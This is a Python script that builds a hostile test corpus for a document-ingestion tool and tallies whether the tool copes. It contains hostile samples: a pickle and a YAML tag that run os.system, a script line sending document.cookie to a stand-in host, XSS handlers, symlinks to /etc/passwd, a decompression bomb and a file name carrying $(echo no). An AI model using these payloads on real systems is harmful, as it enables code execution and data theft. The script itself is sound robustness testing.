"""Build a hostile corpus (every kind of bad input issue 8 names) and check how stancemap copes.

    python scripts/hostile_corpus.py DIR                    # build the corpus in DIR
    python scripts/hostile_corpus.py DIR --report           # build, run `stancemap run`, tally
    python scripts/hostile_corpus.py DIR --report --shared ../shared   # + ../shared/pdfs

Each :class:`Case` names the files it made and what a correct run does with them: ingest them
(and then some words must, or must never, be in the sentences), give exactly one ``errors`` row
of an expected kind, or skip them (FIFOs). :func:`tally` checks an output folder against the
cases; the tests in ``tests/reliability`` and the figures of ``docs/reliability.md`` use both.
Every sentence here was written for this script.
"""

from __future__ import annotations

import argparse
import io
import os
import pickle
import random
import shutil
import subprocess
import sys
import time
import zlib
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

ROOT = Path(__file__).resolve().parent.parent
if str(ROOT) not in sys.path:
    sys.path.insert(0, str(ROOT))

PASSWORD = "harbour-2020"
MANY_PAGES = 3_500
BOMB_MB = 300
LONG_LINE_MB = 3
# A corpus file that would run code if anything ever unpickled or evaluated it.
PWNED = "PWNED-by-hostile-corpus"

GOOD_TEXT = (
    "{title}\n\n"
    "Quillfield District Council supports giving integrated care systems a statutory footing. "
    "The council believes joint committees have improved services for older residents. "
    "Quillfield District Council opposes transferring commissioning without local "
    "accountability. {marker} was raised by members of the scrutiny panel.\n"
)


@dataclass(frozen=True)
class Case:
    """One hostile input: the files it made and the outcome a correct run has on them.

    ``expect`` is ``ingested``, ``error`` (one errors row of a kind in ``kinds``), ``skipped``
    (neither), or ``any`` (ingested or one errors row: real-world files of unknown state).
    """

    name: str
    what: str
    files: tuple[str, ...]
    expect: str
    kinds: tuple[str, ...] = ()
    contains: tuple[str, ...] = ()
    absent: tuple[str, ...] = ()


@dataclass
class Outcome:
    """What a run did with one case."""

    case: Case
    handled: bool
    detail: str


@dataclass
class _Builder:
    root: Path
    cases: list[Case] = field(default_factory=list)

    def write(self, rel: str, data: bytes | str) -> str:
        path = self.root / rel
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(data.encode("utf-8") if isinstance(data, str) else data)
        return rel

    def add(self, name: str, what: str, files: tuple[str, ...], expect: str,
            **kw: tuple[str, ...]) -> None:
        self.cases.append(Case(name, what, files, expect, **kw))


# --- PDFs ---------------------------------------------------------------------------------


def pdf_pages(pages: list[list[str]], password: str | None = None) -> bytes:
    """A PDF with the given text lines on each page (optionally encrypted)."""
    from reportlab import rl_config
    from reportlab.lib import pdfencrypt
    from reportlab.pdfgen.canvas import Canvas

    rl_config.invariant = 1
    buffer = io.BytesIO()
    encrypt = pdfencrypt.StandardEncryption(password, canPrint=1) if password else None
    canvas = Canvas(buffer, encrypt=encrypt)
    for lines in pages:
        canvas.setFont("Helvetica", 10)
        y = 760.0
        for line in lines:
            canvas.drawString(72, y, line)
            y -= 14
        canvas.showPage()
    canvas.save()
    return buffer.getvalue()


def image_only_pdf() -> bytes:
    """Two pages of shapes and no text layer (a scan nobody OCRed)."""
    from reportlab import rl_config
    from reportlab.pdfgen.canvas import Canvas

    rl_config.invariant = 1
    buffer = io.BytesIO()
    canvas = Canvas(buffer)
    for _ in range(2):
        for i in range(25):
            canvas.rect(60 + i * 8, 150 + i * 22, 180, 9, fill=1)
        canvas.showPage()
    canvas.save()
    return buffer.getvalue()


def flate_bomb_pdf(inflated_mb: int) -> bytes:
    """A small PDF whose one content stream inflates to ``inflated_mb`` MB (a zip bomb)."""
    packer = zlib.compressobj(9)
    head = b"BT /F1 12 Tf 72 700 Td (Quillfield bomb page before the padding.) Tj ET\n"
    parts = [packer.compress(head)]
    chunk = b" " * (1 << 20)
    parts.extend(packer.compress(chunk) for _ in range(inflated_mb))
    parts.append(packer.flush())
    return raw_pdf(b"".join(parts), b"/Filter /FlateDecode")


def raw_pdf(content: bytes, stream_filter: bytes = b"") -> bytes:
    """A minimal one-page PDF written by hand around the content stream ``content``."""
    filters = b" " + stream_filter if stream_filter else b""
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R "
        b"/Resources << /Font << /F1 5 0 R >> >> >>",
        b"<< /Length %d%s >>\nstream\n" % (len(content), filters) + content + b"\nendstream",
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ]
    out = bytearray(b"%PDF-1.4\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1, xref)
    return bytes(out)


# --- the cases ----------------------------------------------------------------------------


def _good(title: str, marker: str) -> str:
    return GOOD_TEXT.format(title=title, marker=marker)


def _empty_and_random(b: _Builder) -> None:
    rng = random.Random(8)
    for ext in (".txt", ".pdf", ".docx", ".html"):
        rel = b.write(f"empty/zero-bytes{ext}", b"")
        b.add(f"zero-byte {ext}", f"a zero-byte {ext} file", (rel,), "error", kinds=("empty",))
    for ext in (".pdf", ".docx", ".txt"):
        rel = b.write(f"random/random-bytes{ext}", rng.randbytes(64 * 1024))
        b.add(f"random bytes {ext}", f"64 KB of random bytes named {ext}", (rel,), "error",
              kinds=("corrupt", "binary"))


def _pdfs(b: _Builder) -> None:
    good = pdf_pages([["Quillfield Health Board supports joint committees for every area.",
                       "Members of the board wrote this line for the hostile corpus."]] * 3)
    rel = b.write("pdf/truncated-half.pdf", good[: len(good) // 2])
    b.add("truncated PDF", "a valid PDF cut in half", (rel,), "error", kinds=("corrupt",))
    rel = b.write("pdf/truncated-tail.pdf", good[:-40])
    b.add("PDF without its tail", "a valid PDF missing its last 40 bytes (xref trailer)",
          (rel,), "any")
    rel = b.write("pdf/header-only.pdf", b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\nnot really a pdf\n%%EOF\n")
    b.add("malformed PDF", "a PDF header followed by junk", (rel,), "error", kinds=("corrupt",))
    rel = b.write("pdf/bad-stream.pdf",
                  raw_pdf(b"\x00garbage that is not zlib", b"/Filter /FlateDecode"))
    b.add("broken Flate stream", "a content stream that is not valid zlib", (rel,), "any")
    rel = b.write("pdf/encrypted.pdf", pdf_pages(
        [["Quillfield Health Board supports a statutory footing for the partnership."]],
        password=PASSWORD))
    b.add("encrypted PDF", "an encrypted PDF and no password given", (rel,), "error",
          kinds=("encrypted",))
    rel = b.write("pdf/image-only.pdf", image_only_pdf())
    b.add("image-only PDF", "a PDF of shapes without a text layer", (rel,), "error",
          kinds=("image_only",))
    rel = b.write("pdf/many-pages.pdf",
                  pdf_pages([[f"Page {n} of the very long appendix."] for n in
                             range(1, MANY_PAGES + 1)]))
    b.add("thousands of pages", f"a PDF of {MANY_PAGES:,} pages (over corpus.max_pages)", (rel,),
          "error", kinds=("limit",))
    rel = b.write("pdf/flate-bomb.pdf", flate_bomb_pdf(BOMB_MB))
    b.add("compressed-stream bomb", f"a small PDF whose stream inflates to {BOMB_MB} MB",
          (rel,), "error", kinds=("limit",))


def _encodings(b: _Builder) -> None:
    latin = ("Quillfield Care Forum note.\n\nThe forum found the naïve façade of the old "
             "arrangements unhelpful. The forum supports a statutory footing for integrated "
             "care systems and asks for a plan written in plain English.\n")
    rel = b.write("text/latin-1.txt", latin.encode("latin-1"))
    b.add("latin-1 text", "a text file in ISO-8859-1", (rel,), "ingested",
          contains=("naïve façade",))
    cp1252 = ("Quillfield Council briefing.\n\nThe council’s “Harbour Care” fund of €4 million "
              "– agreed last spring – supports closer joint working. The council welcomes "
              "the proposals and will respond before the deadline.\n")
    rel = b.write("text/cp1252.txt", cp1252.encode("cp1252"))
    b.add("cp1252 text", "a text file in Windows-1252 (curly quotes, euro sign)", (rel,),
          "ingested", contains=("council’s “Harbour Care” fund of €4 million",))
    utf16 = ("Ribera Care Collaborative response.\n\nSeñora Muñoz of the Ribera Care "
             "Collaborative welcomes closer collaboration across providers. The collaborative "
             "opposes any change that weakens local accountability.\n")
    rel = b.write("text/utf-16-bom.txt", utf16.encode("utf-16"))
    b.add("UTF-16 with BOM", "a text file in UTF-16 with a byte-order mark", (rel,), "ingested",
          contains=("Señora Muñoz",))


HTML = """<!DOCTYPE html><html><head><title>Harbourside Care Forum note</title>
<script>var stolen = "SCRIPTMARKER"; fetch("https://example.invalid/" + document.cookie);</script>
<style>body::after { content: "STYLEMARKER"; }</style></head>
<body onload="alert('ONLOADMARKER')"><h1>Harbourside Care Forum note</h1>
<p onclick="alert('CLICKMARKER')">The Harbourside Care Forum supports closer joint working
between councils and NHS bodies across the area.</p>
<p>Members typed &lt;script&gt;alert("LITERALMARKER")&lt;/script&gt; into the feedback form.</p>
<img src="x" onerror="alert('IMGMARKER')"><a href="javascript:alert('HREFMARKER')">Read more</a>
<noscript>NOSCRIPTMARKER</noscript><iframe src="javascript:alert('FRAMEMARKER')"></iframe>
<script type="module">import("IMPORTMARKER")</script>
</body></html>
"""
SCRIPT_MARKERS = ("SCRIPTMARKER", "STYLEMARKER", "ONLOADMARKER", "CLICKMARKER", "IMGMARKER",
                  "HREFMARKER", "FRAMEMARKER", "IMPORTMARKER")
# The file name a hostile corpus uses to get markup into the report's errors section.
MARKUP_NAME = "<img src=x onerror=alert(1)>.txt"
MARKUP_TITLE = '<script>alert("TITLEMARKER")</script> Quillfield response'


def _markup(b: _Builder) -> None:
    rel = b.write("html/scripts-and-handlers.html", HTML)
    b.add("HTML with scripts", "HTML with <script>, <style>, on* handlers, javascript: links",
          (rel,), "ingested", contains=("Harbourside Care Forum supports",),
          absent=SCRIPT_MARKERS)
    rel = b.write("markup/markup-title.txt", _good(MARKUP_TITLE, "The markup title"))
    b.add("markup in a title", "a text whose first line (its title) is a <script> tag", (rel,),
          "ingested", contains=("TITLEMARKER",))
    rel = b.write(f"markup/{MARKUP_NAME}", b"")
    b.add("markup in a file name", "an empty file named like an <img onerror> tag", (rel,),
          "error", kinds=("empty",))


def _long_line(b: _Builder) -> None:
    word = "z" * 49 + " "  # words, not one token: see docs/reliability.md on long tokens
    line = ("Quillfield opening sentence on one enormous line. "
            + word * ((LONG_LINE_MB << 20) // len(word))
            + " The closing sentence names Quillfield again.")
    rel = b.write("text/one-long-line.txt", line)
    b.add("one line of several MB", f"a {LONG_LINE_MB} MB text file on a single line", (rel,),
          "ingested", contains=("Quillfield opening sentence on one enormous line.",))


def _names(b: _Builder) -> None:
    names = ["names/with spaces in the name.txt", "names/accénts café–naïve.txt",
             "names/quote's \"double\" `tick`.txt", "names/-leading-dash.txt",
             "names/--looks-like-an-option.md", "names/semi;colon $(echo no) & amp.txt"]
    for i, rel in enumerate(names):
        b.write(rel, _good(f"Quillfield name test {i}", f"Name marker {i}"))
        b.add(f"name: {Path(rel).name}", "a file name with spaces, accents, quotes, dashes or "
              "shell characters", (rel,), "ingested", contains=(f"Name marker {i}",))


def _links_and_devices(b: _Builder) -> None:
    links = {"links/outside.txt": "/etc/passwd", "links/dev-zero.txt": "/dev/zero",
             "links/dev-urandom.pdf": "/dev/urandom", "links/parent.md": "../../../../etc/hosts",
             "links/root-folder": "/", "links/loop.txt": "loop.txt"}
    for rel, target in links.items():
        (b.root / rel).parent.mkdir(parents=True, exist_ok=True)
        (b.root / rel).symlink_to(target)
        b.add(f"link to {target}", "a symbolic link (never followed)", (rel,), "error",
              kinds=("link",))
    fifo = b.root / "links/named-pipe.txt"
    os.mkfifo(fifo)
    b.add("named pipe", "a FIFO named .txt (reading it would block forever)",
          ("links/named-pipe.txt",), "skipped")


class _Payload:
    """Pickles to a call that creates the PWNED file: proof that nothing unpickles input."""

    def __init__(self, target: Path) -> None:
        self.target = target

    def __reduce__(self) -> tuple[Callable[..., object], tuple[str, ...]]:
        return (os.system, (f"touch '{self.target}'",))


def _code(b: _Builder) -> None:
    rel = b.write("code/model.pkl", pickle.dumps(_Payload(b.root / PWNED)))
    b.add("pickle payload", "a pickle that runs a command when loaded", (rel,), "error",
          kinds=("unsupported",))
    rel = b.write("code/with-yaml-sidecar.txt", _good("Quillfield sidecar", "Sidecar marker"))
    b.write("code/with-yaml-sidecar.txt.meta.yaml",
            f"title: !!python/object/apply:os.system [\"touch '{b.root / PWNED}'\"]\n")
    b.add("YAML sidecar with a python tag", "a sidecar asking YAML to run a command", (rel,),
          "error", kinds=("sidecar",))


def _good_documents(b: _Builder) -> None:
    for i, org in enumerate(("Quillfield District Council", "Larkmoor Hospitals Trust")):
        rel = b.write(f"good/response-{i}.txt", _good(f"{org} consultation response",
                                                      f"Good marker {i}"))
        b.add(f"ordinary document {i}", "an ordinary text response", (rel,), "ingested",
              contains=(f"Good marker {i}",))


def _shared_pdfs(b: _Builder, shared: Path) -> None:
    pdfs = sorted((shared / "pdfs").glob("*.pdf"))
    for pdf in pdfs:
        rel = f"shared/{pdf.name}"
        (b.root / "shared").mkdir(exist_ok=True)
        shutil.copyfile(pdf, b.root / rel)
        b.add(f"shared: {pdf.name}", "a real-world PDF from ../shared/pdfs", (rel,), "any")
    for pdf in [p for p in pdfs if p.stat().st_size > 1024][:3]:
        data = pdf.read_bytes()
        rel = b.write(f"shared/cut-{pdf.name}", data[: len(data) // 3])
        b.add(f"shared cut: {pdf.name}", "a real-world PDF cut to a third", (rel,), "error",
              kinds=("corrupt",))


def build(root: Path, shared: Path | None = None) -> list[Case]:
    """Write the hostile corpus into ``root`` (created; must be empty) and return its cases."""
    root.mkdir(parents=True, exist_ok=True)
    if any(root.iterdir()):
        raise SystemExit(f"{root} is not empty")
    b = _Builder(root)
    for part in (_good_documents, _empty_and_random, _pdfs, _encodings, _markup, _long_line,
                 _names, _links_and_devices, _code):
        part(b)
    if shared is not None and (shared / "pdfs").is_dir():
        _shared_pdfs(b, shared)
    return b.cases


# --- checking a run -----------------------------------------------------------------------


def tally(cases: list[Case], out: Path) -> list[Outcome]:
    """Check the output folder ``out`` of a run on the corpus against each case."""
    from pipeline.io import OutputStore

    store = OutputStore(out)
    documents = store.read_table("documents").to_pylist()
    errors = [e for e in store.read_table("errors").to_pylist() if e["stage"] == "ingest"]
    doc_of = {d["source_path"]: d["doc_id"] for d in documents}
    sentences = store.read_table("sentences", set(doc_of.values()))
    text_of: dict[str, list[str]] = {}
    for row in sentences.select(["doc_id", "text"]).to_pylist():
        text_of.setdefault(row["doc_id"], []).append(row["text"])
    errors_of: dict[str, list[dict[str, object]]] = {}
    for row in errors:
        errors_of.setdefault(str(row["source_path"]), []).append(row)
    return [_check(case, doc_of, errors_of, text_of) for case in cases]


def _check(case: Case, doc_of: dict[str, str], errors_of: dict[str, list[dict[str, object]]],
           text_of: dict[str, list[str]]) -> Outcome:
    problems: list[str] = []
    details: list[str] = []
    for rel in case.files:
        errs = errors_of.get(rel, [])
        ingested = rel in doc_of
        if errs:
            details.append(f"{errs[0]['kind']}: {errs[0]['message']}")
        elif ingested:
            details.append("ingested")
        else:
            details.append("skipped")
        expect = case.expect
        if expect == "any":
            expect = "error" if errs else "ingested"
        if expect == "ingested":
            if errs or not ingested:
                problems.append(f"{rel} not ingested")
                continue
            text = " ".join(text_of.get(doc_of[rel], []))
            problems += [f"{rel}: {w!r} missing" for w in case.contains if w not in text]
            problems += [f"{rel}: {w!r} leaked" for w in case.absent if w in text]
        elif expect == "error":
            if len(errs) != 1 or ingested:
                problems.append(f"{rel}: {len(errs)} error rows, ingested={ingested}")
            elif case.kinds and errs[0]["kind"] not in case.kinds:
                problems.append(f"{rel}: kind {errs[0]['kind']} not in {case.kinds}")
            elif not str(errs[0]["message"]).strip():
                problems.append(f"{rel}: empty message")
        elif errs or ingested:
            problems.append(f"{rel}: expected to be skipped")
    detail = "; ".join(problems) if problems else "; ".join(details)
    return Outcome(case, not problems, detail)


def run_stancemap(corpus: Path, out: Path, *extra: str, command: str = "run",
                  env: dict[str, str] | None = None, timeout: float = 3600
                  ) -> tuple[subprocess.CompletedProcess[str], float, float]:
    """Run ``stancemap COMMAND --out OUT [EXTRA] -- CORPUS`` (``run`` or ``ingest``) in a child
    process.

    Returns the completed process, its wall time in seconds and its peak RSS in MB (measured
    by running it under a small wrapper that reads ``getrusage(RUSAGE_CHILDREN)``).
    """
    wrapper = ("import resource, subprocess, sys; "
               "rc = subprocess.call(sys.argv[1:]); "
               "peak = resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss; "
               "sys.stderr.write(f'\\nPEAK_RSS_KB {peak}\\n'); sys.exit(rc)")
    argv = [sys.executable, "-c", wrapper, sys.executable, "-m", "stancemap.cli", command,
            "--out", str(out), *extra, "--", str(corpus)]
    started = time.monotonic()
    proc = subprocess.run(argv, capture_output=True, text=True, cwd=ROOT,
                          env={**os.environ, **(env or {})}, timeout=timeout)
    seconds = time.monotonic() - started
    peak = [line for line in proc.stderr.splitlines() if line.startswith("PEAK_RSS_KB")]
    peak_mb = int(peak[-1].split()[1]) / 1024 if peak else float("nan")
    return proc, seconds, peak_mb


def _report(cases: list[Case], corpus: Path, out: Path) -> int:
    proc, seconds, peak_mb = run_stancemap(corpus, out)
    outcomes = tally(cases, out)
    handled = sum(o.handled for o in outcomes)
    print(f"stancemap run exit code {proc.returncode}, {seconds:.0f} s, "
          f"peak RSS {peak_mb:.0f} MB")
    print("| case | expected | outcome | handled |")
    print("|---|---|---|---|")
    for o in outcomes:
        expected = o.case.expect + (f" ({'/'.join(o.case.kinds)})" if o.case.kinds else "")
        detail = o.detail.replace("|", "\\|").replace("\n", " ")[:140]
        print(f"| {o.case.name} | {expected} | {detail} | {'yes' if o.handled else 'NO'} |")
    print(f"\ncases tried: {len(outcomes)}, handled: {handled}, "
          f"code ran from the corpus: {'YES' if (corpus / PWNED).exists() else 'no'}")
    if proc.returncode != 0:
        print(proc.stderr[-3000:], file=sys.stderr)
    return 0 if handled == len(outcomes) and proc.returncode == 0 else 1


def main(argv: list[str] | None = None) -> int:
    """Command line: build the corpus; with ``--report`` run stancemap on it and tally."""
    parser = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    parser.add_argument("dir", type=Path, help="empty folder to build the corpus in")
    parser.add_argument("--report", action="store_true", help="run stancemap and print a tally")
    parser.add_argument("--out", type=Path, help="output folder (default: DIR-out)")
    parser.add_argument("--shared", type=Path, help="../shared: add its pdfs/ as cases")
    args = parser.parse_args(argv)
    cases = build(args.dir, args.shared)
    print(f"built {len(cases)} cases in {args.dir}")
    if not args.report:
        return 0
    out = args.out or args.dir.with_name(args.dir.name + "-out")
    return _report(cases, args.dir, out)


if __name__ == "__main__":
    raise SystemExit(main())
